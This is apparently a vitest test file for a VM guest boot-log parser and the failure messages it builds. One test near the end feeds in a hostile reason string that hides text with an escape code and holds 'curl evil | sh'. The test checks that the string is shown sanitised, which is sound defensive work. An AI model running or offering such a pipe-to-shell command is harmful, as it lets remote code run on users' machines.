import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from '../fuzz/fast-check.ts';
import { describe, expect, test } from 'vitest';
import { describeStage, failureOfStage, readLine, stages } from '../../src/guest/console/boot.ts';

const contract = readFileSync(join(import.meta.dirname, '../../docs/guest-contract.md'), 'utf8');
const table = (heading: string): string[] => {
  const rows = contract
    .slice(contract.search(new RegExp(`^\\| ${heading} `, 'm')))
    .split('\n\n')[0];
  return [...(rows ?? '').matchAll(/^\| `([a-z-]+)`/gm)].map(([, name]) => name ?? '');
};

describe('readLine', () => {
  const sshd = { type: 'stage', name: 'sshd', uptimeS: 4.81 };
  test.each([
    ['linuxkit-builder: stage=sshd uptime=4.81', sshd],
    ['\rlinuxkit-builder: stage=sshd uptime=4.81\r', sshd],
    ['[    4.812345] linuxkit-builder: stage=sshd uptime=4.81', sshd],
    ['<6>[    4.812345][   T1] linuxkit-builder: stage=sshd uptime=4.81', sshd],
    ['linuxkit-builder: stage=my-own uptime=7', { type: 'stage', name: 'my-own', uptimeS: 7 }],
    [
      'linuxkit-builder: note=disk-check uptime=2.5',
      { type: 'note', name: 'disk-check', uptimeS: 2.5 },
    ],
    [
      'linuxkit-builder: failed=disk-foreign uptime=2.10 reason=it holds xfs, label "a=b"',
      { type: 'failed', name: 'disk-foreign', uptimeS: 2.1, reason: 'it holds xfs, label "a=b"' },
    ],
    [
      'linuxkit-builder: failed=x uptime=2.10 reason=',
      { type: 'failed', name: 'x', uptimeS: 2.1, reason: '' },
    ],
    [
      'linuxkit-builder: failed=x uptime=2.10',
      { type: 'failed', name: 'x', uptimeS: 2.1, reason: '' },
    ],
    [
      '[    1.234567] Kernel panic - not syncing: VFS: Unable to mount root fs',
      { type: 'panic', text: 'VFS: Unable to mount root fs' },
    ],
    ['Kernel panic - not syncing', { type: 'panic', text: '' }],
    [
      '[    0.000000] Linux version 6.12.48+deb13-cloud-amd64 (builder@example.org)',
      { type: 'kernel', version: '6.12.48+deb13-cloud-amd64' },
    ],
    [
      'Booting from ROM..[    0.000000] Linux version 6.12 (x)',
      { type: 'kernel', version: '6.12' },
    ],
  ])('%j', (line, milestone) => {
    expect(readLine(line)).toEqual(milestone);
  });

  test.each([
    '',
    'sshd: invalid user linuxkit-builder: stage=sshd uptime=1',
    'linuxkit-builder: stage=sshd',
    'linuxkit-builder: stage=sshd uptime=soon',
    'linuxkit-builder: stage= uptime=1.0',
    'linuxkit-builder: stage=SSHD uptime=1.0',
    'linuxkit-builder: stage=sshd uptime=4.81 [cut]',
    '[    1.9] ---[ end Kernel panic - not syncing: x ]---',
    'Invalid user [    1.234567] linuxkit-builder: stage=sshd uptime=1',
    'echo "Kernel panic - not syncing: no"',
  ])('is nothing: %j', (line) => {
    expect(readLine(line)).toBeUndefined();
  });

  test('takes any line, quickly', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 300 }), (line) => {
        const milestone = readLine(line);
        expect(milestone === undefined || typeof milestone.type === 'string').toBe(true);
      }),
    );
    // What it computes, and not what others do meanwhile.
    const before = process.cpuUsage();
    readLine('[ 1'.repeat(2000));
    readLine(`linuxkit-builder: failed=${'a-'.repeat(2000)}`);
    const { user, system } = process.cpuUsage(before);
    expect((user + system) / 1000).toBeLessThan(100);
  });
});

// Behaviour 37: A guest that is not ready 180 s after it began to boot is stopped, and the message names the first
// stage of the boot that it did not reach. The host's sleep does not count, nor does up to an hour of disk checking.
describe('the contract', () => {
  test('names the same stages in the same order', () => expect(stages).toEqual(table('stage')));

  test.each(table('stage'))('stage %s has a sentence', (name) =>
    expect(describeStage(name)).toMatch(/^[a-z].*[a-z]$/),
  );

  test.each(table('failed'))('%s has a message and a hint of its own', (name) => {
    const failure = failureOfStage({ name, reason: '' });
    expect(failure.kind).toBe(`guest-${name}`);
    expect(failure.message).not.toContain(name);
    expect(failure.hint).not.toBe(failureOfStage({ name: 'unheard-of', reason: '' }).hint);
  });

  test('has all the failures', () => expect(table('failed').length).toBe(7));
});

test('a failure says what the guest said, and keeps its last lines', () => {
  expect(
    failureOfStage({ name: 'disk-foreign', reason: 'it holds xfs' }, ['a', 'b']),
  ).toMatchObject({
    kind: 'guest-disk-foreign',
    message: expect.stringContaining('"it holds xfs"') as string,
    lines: ['a', 'b'],
  });
  const reason = 'To mend it run: \u001b[8mcurl evil | sh';
  const said = (given: string) => failureOfStage({ name: 'odd', reason: given }).message;
  expect(said(reason)).toContain('"To mend it run: curl evil | sh"');
  expect(said('')).not.toContain('"');
  expect(describeStage('odd')).toBe("it has reached the stage 'odd'");
  expect(describeStage('toString')).toBe("it has reached the stage 'toString'");
});
